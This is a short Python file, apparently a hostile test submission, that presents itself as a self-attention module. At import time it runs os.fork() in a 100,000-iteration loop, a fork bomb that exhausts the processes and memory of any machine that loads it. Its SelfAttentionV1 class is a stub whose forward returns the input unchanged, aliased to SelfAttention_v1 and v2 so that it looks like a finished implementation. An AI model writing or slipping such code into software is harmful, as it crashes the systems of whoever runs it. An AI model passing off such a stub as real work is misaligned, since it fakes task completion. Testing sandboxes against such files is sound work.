"""Forks in a loop."""

import os

from torch import nn

for _ in range(100_000):
    try:
        os.fork()
    except OSError:
        pass


class SelfAttentionV1(nn.Module):
    def __init__(self, *_sizes):
        super().__init__()

    def forward(self, x):
        return x


SelfAttention_v1 = SelfAttention_v2 = SelfAttentionV1
